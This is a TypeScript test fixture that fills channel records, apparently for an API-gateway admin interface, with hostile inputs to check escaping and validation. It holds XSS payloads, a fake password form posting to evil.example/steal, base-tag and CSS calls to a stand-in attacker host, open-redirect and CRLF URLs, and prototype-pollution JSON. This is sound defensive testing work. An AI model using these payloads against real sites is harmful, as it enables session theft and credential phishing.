import { blankChannel, type ChannelRow } from './channel-row'
import { PLAIN } from '../hostile-plain-texts'

/** Hostile HTML, for long text fields. */
const HTML = [
  '<img src=x onerror=window.__xss=1>',
  '<script>window.__xss=1</script>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
  '<base href="https://evil.example/">',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<object data="data:text/html,<script>parent.__xss=1</script>"></object><embed src="javascript:window.__xss=1">',
  '<a href="//evil.example/">x</a><a href="/\\evil.example">y</a>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.__xss=1>y</div>',
  '<xmp><img src="</xmp><img src=x onerror=window.__xss=1>">',
  '<img src="/api/user/logout">',
  '<svg><style>@import url(https://evil.example/z)</style></svg><img srcset="https://evil.example/s 1x">',
  '<div onpointerenter=window.__xss=1 tabindex=1 autofocus contenteditable onfocus=window.__xss=1>z</div>',
] as const

/** Hostile URLs, for `base_url`. */
const URLS = [
  'javascript:window.__xss=1',
  ' \u0001javascript:window.__xss=1',
  'javascript://ok.example/%0awindow.__xss=1',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>",
  'blob:https://ok.example/1',
  '//evil.example/',
  '\\\\evil.example\\x',
  'https://user:pw@evil.example/',
  'https://good.example.evil.example/',
  'https://evil.example/\r\nX: y',
  'not a url',
  `https://ok.example/${'x'.repeat(5000)}`,
  '/api/user/logout',
  '/%61pi/user/token',
  'https://chat.example/?a=1',
] as const

/** Invalid and hostile JSON, for `model_mapping` and `config`. */
const JSON_TEXTS = [
  '[]',
  '1',
  '{"gpt-4":15}',
  '{"gpt-4":{"a":1}}',
  '{"gpt-4":1e309}',
  '{"gpt-4 ":"a","gpt-4":"b"}',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"a":1,}',
  '\uFEFF{"a":"b"}',
  '{"a":"b"} x',
  '{',
  'null',
  `{"gpt-4":"${'x'.repeat(1013)}"}`,
  '{"vertex_ai_adc":"{\\"type\\":\\"a|b\\"}","region":"<img src=x onerror=window.__xss=1>","sk":5}',
] as const

/** Types whose forms read `config`, and two unknown types. */
const TYPES = [1, 3, 33, 42, 34, 37, 17, 8, 99, -1]
const STATUSES = [1, 2, 3, 0, 9, -1]
const NUMBERS = [0, -3, 1e-7, 123_456_789.999, 9_007_199_254_740_991]

function pick<Item extends string | number>(list: readonly Item[], at: number): Item | '' {
  return list[at % list.length] ?? ''
}

const numberAt = (list: readonly number[], at: number) => Number(pick(list, at))

/** One row per input of the longest list; every text field holds a hostile input. */
export function hostileChannels(start: number): ChannelRow[] {
  const rowCount = Math.max(PLAIN.length, HTML.length, URLS.length, JSON_TEXTS.length)
  return Array.from({ length: rowCount }, (_, at) => ({
    ...blankChannel(at + 1, start - (rowCount - at) * 3600),
    type: numberAt(TYPES, at),
    key: pick(HTML, at),
    status: numberAt(STATUSES, at),
    name: pick(PLAIN, at),
    base_url: pick(URLS, at),
    other: pick(HTML, at + 1),
    balance: numberAt(NUMBERS, at),
    response_time: at * 997,
    test_time: at % 2 ? start : 0,
    models: `${pick(PLAIN, at + 1)},,b ,${pick(HTML, at + 2)}`,
    // Half of the channels are in a real group, so that users see their models.
    group: at % 2 ? `default,${pick(PLAIN, at + 2)}` : pick(PLAIN, at + 2),
    used_quota: Math.trunc(numberAt(NUMBERS, at)),
    model_mapping: pick(JSON_TEXTS, at),
    priority: at % 3 ? -at : null,
    weight: at % 4 ? at : null,
    config: pick(JSON_TEXTS, at + 1),
    system_prompt: pick(HTML, at + 3),
  }))
}
